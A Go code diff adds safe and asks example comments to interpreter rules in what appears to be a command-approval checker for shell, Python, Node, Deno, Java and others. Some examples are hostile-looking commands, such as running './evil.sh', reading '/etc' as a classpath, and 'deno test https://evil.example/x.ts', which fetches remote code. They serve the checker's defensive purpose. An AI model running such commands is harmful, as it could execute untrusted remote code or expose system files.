@@ -19,8 +19,14 @@ var shellOptions = []option{
 // interpreters run code. Shell code is walked; code of other languages is not
 // known, and asks.
 var interpreters = []program{
+	// safe: sh -c ls
+	// asks: sh ./evil.sh
 	{names: "sh", risk: umpire.Safe, why: "runs shell code", style: leading, args: "script data…", check: checkShell,
 		also: []*[]option{&shellOptions}},
+	// safe: bash -n x.sh
+	// asks: bash x.sh
+	// safe: bash -O extglob -c ls
+	// asks: bash --rcfile ./evil
 	{
 		names: "bash rbash", risk: umpire.Safe, why: "runs shell code", style: leading, args: "script data…",
 		check: checkShell, also: []*[]option{&shellOptions},
@@ -31,8 +37,12 @@ var interpreters = []program{
 			{names: "--login --norc --noprofile --posix --restricted --verbose --noediting"},
 		},
 	},
+	// safe: dash -c ls
+	// asks: dash -O ./evil.sh
 	{names: "dash ash", risk: umpire.Safe, why: "runs shell code", style: leading, args: "script data…",
 		check: checkShell, also: []*[]option{&shellOptions}},
+	// safe: zsh -f -c ls
+	// asks: zsh -O ./evil.sh
 	{
 		names: "zsh", risk: umpire.Safe, why: "runs shell code", style: leading, args: "script data…",
 		check: checkShell, also: []*[]option{&shellOptions},
@@ -41,12 +51,23 @@ var interpreters = []program{
 			{names: "--login --restricted --verbose --no-rcs --no-globalrcs"},
 		},
 	},
+	// safe: ksh -c ls
+	// asks: ksh -R out x.sh
 	{names: "ksh mksh", risk: umpire.Safe, why: "runs shell code", style: leading, args: "script data…",
 		check: checkShell, also: []*[]option{&shellOptions}},
 	{names: "fish nu pwsh", every: guessCode, risk: umpire.Medium, consequence: lost, why: "runs code of another shell",
 		style: leading, args: "code…", check: runsCode, opts: []option{{names: "--version -v", does: shows}}},
 	{names: "csh tcsh powershell elvish xonsh cmd", every: guessCode, risk: umpire.Medium, consequence: lost,
 		why: "runs code of another shell", style: leading, args: "code…", check: runsCode},
+	// safe: python3 --version
+	// asks: python3 x.py
+	// safe: python -m unittest discover -s tests
+	// asks: python -m unittest --evil
+	// safe: python3 -m py_compile a.py
+	// asks: python3 -m py_compile -
+	// asks: python3 -m ast
+	// safe: python3 -m zipfile -l a.zip
+	// asks: python3 -m zipfile -e a.zip x
 	{
 		names: "python python3 python2 pypy pypy3 python3.8 python3.9 python3.10 python3.11 python3.12 python3.13 " +
 			"python3.14",
@@ -59,6 +80,13 @@ var interpreters = []program{
 			{names: "-m=", does: ends}, {names: "-c=", does: ends},
 		},
 	},
+	// safe: node --check a.js
+	// asks: node a.js
+	// safe: node --test
+	// safe: node --test test/a.test.js
+	// asks: node --test --require ./x
+	// asks: node --test --test-reporter=./x.js
+	// asks: node --test -e x
 	{
 		names: "node nodejs iojs", every: guessCode, risk: umpire.Safe,
 		why: "runs JavaScript code that cannot be judged", style: leading, args: "script data…", check: checkSyntax,
@@ -78,6 +106,8 @@ var interpreters = []program{
 				does: obeys, why: "loads more JavaScript code"},
 		},
 	},
+	// safe: deno --version
+	// asks: deno run a.ts
 	{
 		names: "deno", every: guessCode, risk: umpire.Medium, consequence: lost,
 		why: "runs JavaScript code that cannot be judged", style: leading, check: runsCode,
@@ -93,6 +123,8 @@ var interpreters = []program{
 					{names: "--config= -c= --import-map=", does: obeys, why: otherRules},
 				},
 			},
+			// safe: deno test -A
+			// asks: deno test https://evil.example/x.ts
 			{names: "test", risk: umpire.Safe, why: runsTests, args: "data…", check: checkDenoTargets, opts: []option{
 				{names: "-A --allow-all --allow-read? --allow-env? --allow-net? --allow-write? --allow-run? " +
 					"--allow-sys? --no-prompt --no-check? --fail-fast? --filter= --parallel --quiet -q --trace-leaks " +
@@ -101,6 +133,8 @@ var interpreters = []program{
 				{names: "--reporter=", does: asks, consequence: lost, why: "is not known",
 					except: "pretty dot junit tap"},
 			}},
+			// safe: deno fmt --check
+			// asks: deno fmt
 			{names: "fmt", risk: umpire.Safe, why: "formats code", args: "tree…", check: checkFormatter, opts: []option{
 				{names: "--check", why: "only checks"},
 				{names: "--quiet -q --ignore= --no-semicolons? --single-quote? --use-tabs? --line-width= " +
@@ -111,6 +145,8 @@ var interpreters = []program{
 			{names: "help types completions", each: true, risk: umpire.Safe, why: "prints help"},
 		},
 	},
+	// safe: ruby -c a.rb
+	// asks: ruby a.rb
 	{
 		names: "ruby", every: guessCode, risk: umpire.Safe, why: "runs Ruby code that cannot be judged", style: leading,
 		args: "script data…", check: checkSyntax,
@@ -126,6 +162,8 @@ var interpreters = []program{
 	{names: "jruby", risk: umpire.Medium, consequence: reversible,
 		why: "runs Ruby code, and obeys the options of a file in the folder", style: leading, args: "code…",
 		check: runsCode},
+	// safe: perl -v
+	// asks: perl -e 1
 	{
 		names: "perl", every: guessCode, risk: umpire.Medium, consequence: lost,
 		why: "runs Perl code that cannot be judged", style: leading, args: "code read…", check: checkPerl,
@@ -135,6 +173,8 @@ var interpreters = []program{
 			{names: "-i?", does: edits | asks, consequence: lost, why: "runs Perl code and changes files in place"},
 		},
 	},
+	// safe: php -l a.php
+	// asks: php a.php
 	{
 		names: "php", every: guessCode, risk: umpire.Safe, why: "runs PHP code that cannot be judged", style: leading,
 		args: "script data…", check: checkSyntax,
@@ -158,8 +198,13 @@ var interpreters = []program{
 	{names: "tclsh wish expect osascript scala groovy iex erl escript awk-csv bc-run jrunscript jjs kotlin clojure " +
 		"clj janet", every: guessCode, risk: umpire.Medium, consequence: lost, why: runsUnjudged, style: leading,
 		args: "code…", check: runsCode},
+	// safe: jps -l
+	// asks: jps host
 	{names: "jps", risk: umpire.Safe, why: "lists Java programs that run", args: "none",
 		opts: []option{{names: "-qmlvV"}, {names: "--help", does: shows}}},
+	// safe: javap -c -p Foo.class
+	// asks: javap -J-Dx Foo
+	// asks: javap -cp /etc Foo
 	{
 		names: "javap", risk: umpire.Safe, why: "prints classes", style: words, args: "read…", check: checkResponseFile,
 		opts: []option{
@@ -168,6 +213,8 @@ var interpreters = []program{
 			{names: "-version --version -help --help", does: shows},
 		},
 	},
+	// safe: java -version
+	// asks: java A
 	{
 		names: "java", risk: umpire.Medium, consequence: lost, why: "runs Java code that cannot be judged",
 		style: words, args: "code…", check: runsCode,
